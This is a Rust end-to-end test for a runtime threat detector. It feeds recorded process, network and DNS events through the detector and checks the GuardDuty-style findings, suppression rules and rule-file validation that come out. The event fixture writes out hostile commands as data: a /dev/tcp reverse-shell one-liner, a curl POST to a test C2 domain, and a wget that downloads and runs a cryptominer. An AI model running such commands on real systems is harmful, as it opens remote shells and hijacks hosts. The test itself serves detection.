//! End to end: a recorded-style `ward-agent watch` stream through `ward-collector detect`, checking
//! the finding JSON (type, severity, process, ancestry) GuardDuty consumers would see.

use std::path::PathBuf;
use std::process::{Command, Output};

use serde_json::Value;

const BIN: &str = env!("CARGO_BIN_EXE_ward-collector");

/// A shell session as the agent prints it: the GuardDuty tester's reverse shell (a renamed bash
/// whose stdio is a loopback TCP socket), its ptrace and process_vm_writev programs, a test-domain
/// lookup by curl, a miner downloaded and run inside a container (twice), and one corrupt line.
const EVENTS: &str = r#"{"type":"process_exec","time":"2026-03-01T10:00:00.000000001Z","process":{"pid":1000,"ppid":900,"ns_pid":1000,"start_time":"2026-03-01T10:00:00Z","name":"bash","executable":"/usr/bin/bash","args":["bash","tester.sh"],"cwd":"/home/ssm-user","uid":1000,"euid":1000,"gid":1000,"egid":1000,"namespaces":{"pid":1,"mnt":2,"net":3},"cgroup_id":1,"cgroup":"/user.slice","sha256":"b45h","ancestors":[{"pid":900,"ns_pid":900,"start_time":"2026-03-01T09:00:00Z","name":"ssm-session-wor","executable":"/usr/bin/ssm-session-worker","uid":0,"euid":0},{"pid":1,"ns_pid":1,"start_time":"2026-03-01T08:00:00Z","name":"systemd","executable":"/usr/lib/systemd/systemd","uid":0,"euid":0}]},"exec":{}}
{"type":"net_connect","time":"2026-03-01T10:00:01Z","syscall":"connect","result":0,"process":{"pid":1001,"ppid":1000,"start_time":"2026-03-01T10:00:01Z","name":"1772359200-reve","executable":"/home/ssm-user/1772359200-reverseShell","args":["./1772359200-reverseShell","-c","./1772359200-reverseShell -i >& /dev/tcp/127.0.0.1/1337 0>&1"],"uid":1000,"euid":1000,"sha256":"b45h","ancestors":[{"pid":1000,"start_time":"2026-03-01T10:00:00Z","name":"bash","executable":"/usr/bin/bash","uid":1000,"euid":1000}]},"socket":{"family":"inet","protocol":"tcp","local":{"ip":"127.0.0.1","port":51000},"remote":{"ip":"127.0.0.1","port":1337}}}
this is not json
{"type":"process_exec","time":"2026-03-01T10:00:01.5Z","process":{"pid":1001,"ppid":1000,"ns_pid":1001,"start_time":"2026-03-01T10:00:01Z","name":"1772359200-reve","executable":"/home/ssm-user/1772359200-reverseShell","args":["./1772359200-reverseShell","-i"],"cwd":"/home/ssm-user","uid":1000,"euid":1000,"sha256":"b45h","ancestors":[{"pid":1000,"ns_pid":1000,"start_time":"2026-03-01T10:00:00Z","name":"bash","executable":"/usr/bin/bash","uid":1000,"euid":1000},{"pid":900,"ns_pid":900,"start_time":"2026-03-01T09:00:00Z","name":"ssm-session-wor","executable":"/usr/bin/ssm-session-worker","uid":0,"euid":0}]},"exec":{"stdio_sockets":[0,1,2],"stdio_socket":{"family":"inet","protocol":"tcp","local":{"ip":"127.0.0.1","port":51000},"remote":{"ip":"127.0.0.1","port":1337}}}}
{"type":"ptrace","time":"2026-03-01T10:00:02Z","syscall":"ptrace","result":0,"process":{"pid":1011,"start_time":"2026-03-01T10:00:02Z","name":"ptrace","executable":"/home/ssm-user/ptrace","args":["./ptrace"],"uid":1000,"euid":1000,"ancestors":[{"pid":1010,"start_time":"2026-03-01T10:00:01.9Z","name":"ptrace","executable":"/home/ssm-user/ptrace","uid":1000,"euid":1000}]},"target":{"pid":0,"request":"PTRACE_TRACEME"}}
{"type":"process_exec","time":"2026-03-01T10:00:02.1Z","process":{"pid":1011,"start_time":"2026-03-01T10:00:02Z","name":"ls","executable":"/usr/bin/ls","args":["/bin/ls"],"uid":1000,"euid":1000,"ancestors":[{"pid":1010,"start_time":"2026-03-01T10:00:01.9Z","name":"ptrace","executable":"/home/ssm-user/ptrace","uid":1000,"euid":1000}]},"exec":{}}
{"type":"process_vm_access","time":"2026-03-01T10:00:03Z","syscall":"process_vm_writev","result":-14,"error":"EFAULT","process":{"pid":1020,"start_time":"2026-03-01T10:00:03Z","name":"vmRwTest","executable":"/home/ssm-user/vmRwTest","args":["./vmRwTest"],"uid":1000,"euid":1000,"ancestors":[]},"target":{"pid":1021,"write":true,"process":{"pid":1021,"ns_pid":1021,"start_time":"2026-03-01T10:00:03Z","name":"ls","executable":"/usr/bin/ls","uid":1000,"euid":1000}}}
{"type":"dns_query","time":"2026-03-01T10:00:04Z","process":{"pid":1030,"start_time":"2026-03-01T10:00:04Z","name":"curl","executable":"/usr/bin/curl","args":["curl","-X","POST","http://guarddutyc2activityb.com/sample.dat"],"uid":1000,"euid":1000,"ancestors":[{"pid":1000,"start_time":"2026-03-01T10:00:00Z","name":"bash","executable":"/usr/bin/bash","uid":1000,"euid":1000}]},"dns":{"id":7,"response":false,"questions":[{"name":"guarddutyc2activityb.com","type":"A","class":"IN"}],"server":{"ip":"10.0.0.2","port":53},"transport":"udp"}}
{"type":"file_open","time":"2026-03-01T10:00:05Z","syscall":"openat","result":3,"process":{"pid":2001,"start_time":"2026-03-01T10:00:05Z","name":"wget","executable":"/usr/bin/wget","args":["wget","http://203.0.113.1:33333/ls","-O","/tmp/xmrig"],"uid":33,"euid":33,"container":{"id":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08","runtime":"containerd"},"ancestors":[{"pid":2000,"start_time":"2026-03-01T10:00:04Z","name":"sh","executable":"/bin/sh","uid":33,"euid":33},{"pid":1500,"start_time":"2026-03-01T09:30:00Z","name":"apache2","executable":"/usr/sbin/apache2","uid":33,"euid":33}]},"file":{"path":"/tmp/xmrig","flags":["O_WRONLY","O_CREAT","O_TRUNC"],"mode":"666"}}
{"type":"process_exec","time":"2026-03-01T10:00:06Z","process":{"pid":2002,"start_time":"2026-03-01T10:00:06Z","name":"xmrig","executable":"/tmp/xmrig","args":["/tmp/xmrig"],"cwd":"/var/www/html","uid":33,"euid":33,"container":{"id":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08","runtime":"containerd"},"sha256":"e3b0","ancestors":[{"pid":2000,"ns_pid":12,"start_time":"2026-03-01T10:00:04Z","name":"sh","executable":"/bin/sh","uid":33,"euid":33},{"pid":1500,"ns_pid":1,"start_time":"2026-03-01T09:30:00Z","name":"apache2","executable":"/usr/sbin/apache2","uid":33,"euid":33}]},"exec":{}}
{"type":"process_exec","time":"2026-03-01T10:07:00Z","process":{"pid":2102,"start_time":"2026-03-01T10:07:00Z","name":"xmrig","executable":"/tmp/xmrig","args":["/tmp/xmrig"],"uid":33,"euid":33,"container":{"id":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08","runtime":"containerd"},"sha256":"e3b0","ancestors":[{"pid":2000,"start_time":"2026-03-01T10:00:04Z","name":"sh","executable":"/bin/sh","uid":33,"euid":33}]},"exec":{}}
"#;

fn write_temp(name: &str, text: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("ward-detect-test-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    path
}

fn detect(args: &[&str]) -> Output {
    Command::new(BIN)
        .arg("detect")
        .args(args)
        .output()
        .expect("ward-collector runs")
}

fn findings(out: &Output) -> Vec<Value> {
    assert!(
        out.status.success(),
        "stderr: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout.clone())
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn by_type<'a>(findings: &'a [Value], t: &str) -> &'a Value {
    let hits: Vec<&Value> = findings.iter().filter(|f| f["type"] == t).collect();
    assert_eq!(
        hits.len(),
        1,
        "{t}: {:#?}",
        findings.iter().map(|f| &f["type"]).collect::<Vec<_>>()
    );
    hits[0]
}

#[test]
fn recorded_session_gives_the_expected_findings() {
    let events = write_temp("session.jsonl", EVENTS);
    let out = detect(&[
        "--events",
        events.to_str().unwrap(),
        "--instance-id",
        "i-0d1e2f",
        "--account-id",
        "111122223333",
    ]);
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let all = findings(&out);
    assert!(
        stderr.contains(":3: not an agent event"),
        "malformed line reported with its number: {stderr}"
    );
    assert!(
        stderr.contains("11 lines, 10 events, 1 malformed"),
        "{stderr}"
    );

    let shell = by_type(&all, "Execution:Runtime/ReverseShell");
    assert_eq!(shell["severity"], 8);
    assert_eq!(
        shell["resource"]["instanceDetails"]["instanceId"],
        "i-0d1e2f"
    );
    assert_eq!(shell["accountId"], "111122223333");
    let p = &shell["service"]["runtimeDetails"]["process"];
    assert_eq!(
        p["executablePath"],
        "/home/ssm-user/1772359200-reverseShell"
    );
    assert_eq!(p["pid"], 1001);
    assert_eq!(p["lineage"][0]["name"], "bash");
    assert_eq!(
        p["lineage"][1]["executablePath"],
        "/usr/bin/ssm-session-worker"
    );
    assert_eq!(p["parentUuid"], p["lineage"][0]["uuid"]);
    assert_eq!(
        shell["service"]["action"]["networkConnectionAction"]["remoteIpDetails"]["ipAddressV4"],
        "127.0.0.1"
    );
    assert_eq!(
        shell["service"]["additionalInfo"]["ward"]["process"]["commandLine"][1],
        "-i"
    );
    assert_eq!(
        shell["service"]["additionalInfo"]["ward"]["ruleId"],
        "detector.reverse-shell"
    );
    assert_eq!(shell["service"]["featureName"], "RuntimeMonitoring");

    let ptrace = by_type(&all, "DefenseEvasion:Runtime/ProcessInjection.Ptrace");
    assert_eq!(ptrace["severity"], 5);
    assert_eq!(
        ptrace["service"]["runtimeDetails"]["process"]["lineage"][0]["name"],
        "ptrace"
    );

    let vm = by_type(
        &all,
        "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite",
    );
    assert_eq!(
        vm["service"]["runtimeDetails"]["context"]["targetProcess"]["pid"],
        1021
    );

    let c2 = by_type(&all, "Backdoor:Runtime/C&CActivity.B!DNS");
    assert_eq!(
        c2["service"]["action"]["dnsRequestAction"]["domain"],
        "guarddutyc2activityb.com"
    );
    assert_eq!(c2["service"]["runtimeDetails"]["process"]["name"], "curl");

    let miner = by_type(&all, "Impact:Runtime/CryptoMinerExecuted");
    assert_eq!(miner["severity"], 8);
    assert_eq!(miner["resource"]["resourceType"], "Container");
    assert_eq!(miner["service"]["count"], 2, "the second run aggregates");
    assert_eq!(
        miner["service"]["eventFirstSeen"],
        "2026-03-01T10:00:06.000Z"
    );
    assert_eq!(
        miner["service"]["eventLastSeen"],
        "2026-03-01T10:07:00.000Z"
    );

    let new_binary = by_type(&all, "Execution:Runtime/NewBinaryExecuted");
    let context = &new_binary["service"]["runtimeDetails"]["context"];
    assert_eq!(context["modifyingProcess"]["name"], "wget");
    assert_eq!(context["modifiedAt"], "2026-03-01T10:00:05.000Z");

    assert_eq!(
        all.len(),
        6,
        "{:#?}",
        all.iter().map(|f| &f["type"]).collect::<Vec<_>>()
    );

    // Replaying the same file gives the same ids: detection runs on event time only.
    let again = findings(&detect(&[
        "--events",
        events.to_str().unwrap(),
        "--instance-id",
        "i-0d1e2f",
        "--account-id",
        "111122223333",
    ]));
    let ids = |f: &[Value]| f.iter().map(|x| x["id"].clone()).collect::<Vec<_>>();
    assert_eq!(ids(&all), ids(&again));
}

#[test]
fn operator_files_add_exceptions_and_suppression_from_stdin() {
    let rules = write_temp(
        "ops.toml",
        "[[exception]]\nrule = \"ward.miner.known-names\"\nwhen = { field = \"process.cwd\", equals = \"/var/www/html\" }\n",
    );
    let suppression = write_temp(
        "suppress.json",
        r#"[{"Name": "tester", "Action": "ARCHIVE", "FindingCriteria": {"Criterion": {"type": {"Eq": ["Execution:Runtime/ReverseShell"]}}}}]"#,
    );
    let mut child = Command::new(BIN)
        .args([
            "detect",
            "--events",
            "-",
            "--rules",
            rules.to_str().unwrap(),
            "--suppression",
            suppression.to_str().unwrap(),
            "--stream",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(EVENTS.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    let all = findings(&out);
    let types: Vec<&str> = all.iter().map(|f| f["type"].as_str().unwrap()).collect();
    assert!(
        !types.contains(&"Execution:Runtime/ReverseShell"),
        "archived and not printed: {types:?}"
    );
    // The exception silenced the first miner run (its cwd); the second run, elsewhere, is streamed.
    let miners: Vec<&Value> = all
        .iter()
        .filter(|f| f["type"] == "Impact:Runtime/CryptoMinerExecuted")
        .collect();
    assert_eq!(miners.len(), 1);
    assert_eq!(miners[0]["service"]["count"], 1);
    assert!(String::from_utf8_lossy(&out.stderr).contains("(1 archived)"));
}

#[test]
fn a_bad_rule_file_stops_start_up_with_file_line_and_reason() {
    let bad = write_temp(
        "bad.toml",
        "# operator rules\n\n[[rule]]\nid = \"x\"\nfinding = \"Execution:Runtime/SuspiciousTool\"\nevents = [\"process_exec\"]\nwhen = { field = \"process.name\", regex = \"[unclosed\" }\n",
    );
    let out = detect(&["--check", "--rules", bad.to_str().unwrap()]);
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&format!("{}:7: bad regex", bad.display())),
        "{stderr}"
    );

    let good = write_temp("good.toml", "disable = [\"ward.tool.dual-use\"]\n");
    let out = detect(&["--check", "--rules", good.to_str().unwrap()]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}
